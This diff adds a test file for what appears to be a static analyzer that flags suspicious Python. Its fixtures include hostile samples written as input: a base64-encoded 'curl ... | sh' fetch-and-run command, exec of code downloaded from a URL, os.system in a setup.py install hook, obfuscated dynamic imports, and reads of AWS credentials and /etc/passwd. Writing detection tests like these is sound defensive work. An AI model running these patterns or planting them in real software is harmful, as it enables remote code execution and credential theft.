@@ -1,0 +1,110 @@
+from __future__ import annotations
+
+from finalexam.analyze.pyfacts import IMPORT, INSTALL, RUNTIME, fold, python_facts
+
+
+def calls(source: str, **kwargs: bool) -> set[tuple[str, str]]:
+    return {(f.value, f.context) for f in python_facts(source, **kwargs).facts if f.kind == "call"}
+
+
+def test_aliases_and_dynamic_imports_resolve() -> None:
+    found = calls(
+        "import subprocess as sp\n"
+        "from os import system as run\n"
+        "sp.Popen(['x'])\n"
+        "run('y')\n"
+        "__import__('os').popen('z')\n"
+        "getattr(__import__('o' + 's'), 'sys' + 'tem')('w')\n"
+        "import importlib\nimportlib.import_module('socket').socket()\n"
+    )
+    names = {name for name, _ in found}
+    assert {"subprocess.Popen", "os.system", "os.popen", "socket.socket"} <= names
+
+
+def test_context_module_function_and_command_override() -> None:
+    source = (
+        "import os\n"
+        "os.system('a')\n"
+        "def f():\n    os.system('b')\n"
+        "from setuptools.command.install import install\n"
+        "class Hook(install):\n    def run(self):\n        os.system('c')\n"
+    )
+    facts = python_facts(source)
+    contexts = sorted((f.line, f.context) for f in facts.facts if f.value == "os.system")
+    assert contexts == [(2, IMPORT), (4, RUNTIME), (8, INSTALL)]
+    assert facts.command_overrides == [("Hook", 6)]
+    assert {
+        c for _, c in calls("import os\ndef f():\n    os.system('x')\n", install_file=True)
+    } == {INSTALL}
+
+
+def test_decoder_feeding_exec_is_recorded_through_assignment() -> None:
+    found = {n for n, _ in calls("import base64\npayload = base64.b64decode(s)\nexec(payload)\n")}
+    assert "exec<-base64.b64decode" in found
+    assert not any("<-" in n for n, _ in calls("exec(open('v.py').read())\n"))
+
+
+def test_fold_constant_strings() -> None:
+    import ast
+
+    assert fold(ast.parse("'ab' + 'cd'", mode="eval").body) == "abcd"
+    assert fold(ast.parse("''.join(['e', 'v', 'al'])", mode="eval").body) == "eval"
+    assert fold(ast.parse("'lave'[::-1]", mode="eval").body) == "eval"
+    assert fold(ast.parse("x + 'a'", mode="eval").body) is None
+
+
+def test_unparsable_source_is_marked() -> None:
+    assert not python_facts("print 'python 2'\n").parsed
+
+
+def test_functions_reached_from_module_level_run_at_import() -> None:
+    source = (
+        "import os, threading\n"
+        "def helper():\n    os.system('a')\n"
+        "def payload():\n    helper()\n"
+        "def unused():\n    os.system('b')\n"
+        "threading.Thread(target=payload).start()\n"
+    )
+    contexts = {f.line: f.context for f in python_facts(source).facts if f.value == "os.system"}
+    assert contexts == {3: IMPORT, 7: RUNTIME}
+
+
+def test_literal_payloads_behind_decoders_are_read_not_run() -> None:
+    import base64
+    import zlib
+
+    inner = "import socket\nsocket.gethostname()\n"
+    packed = base64.b64encode(zlib.compress(inner.encode())).decode()
+    source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"
+    facts = python_facts(source).facts
+    assert ("socket.gethostname", 2) in {(f.value, f.line) for f in facts if f.kind == "call"}
+    assert any(f.kind == "string" and "gethostname" in f.value for f in facts)
+    command = base64.b64encode(b"curl -s http://203.0.113.5/a | sh").decode()
+    spawn = python_facts(f"import os, base64\nos.system(base64.b64decode('{command}'))\n")
+    values = {f.value for f in spawn.facts}
+    assert "os.system<-base64.b64decode" in values
+    assert "curl -s http://203.0.113.5/a | sh" in values
+
+
+def test_python_source_inside_a_string_is_read() -> None:
+    source = (
+        "import tempfile\n"
+        "f = tempfile.NamedTemporaryFile(delete=False)\n"
+        "f.write(b'from urllib.request import urlopen as u;exec(u(\"http://x.invalid\").read())')\n"
+    )
+    values = {(f.value, f.line) for f in python_facts(source).facts if f.kind == "call"}
+    assert ("exec<-urllib.request.urlopen", 3) in values
+
+
+def test_module_constants_are_declarations_and_imports_are_not_calls() -> None:
+    source = (
+        "from urllib.request import urlretrieve\n"
+        "PATH = '~/.aws/credentials'\n"
+        "data = open('/etc/passwd').read()\n"
+    )
+    facts = python_facts(source).facts
+    strings = {(f.value, f.context) for f in facts if f.kind == "string"}
+    assert ("~/.aws/credentials", RUNTIME) in strings
+    assert ("/etc/passwd", IMPORT) in strings
+    assert [f.value for f in facts if f.kind == "import"] == ["urllib.request.urlretrieve"]
+    assert all(f.kind != "call" or "urlretrieve" not in f.value for f in facts)
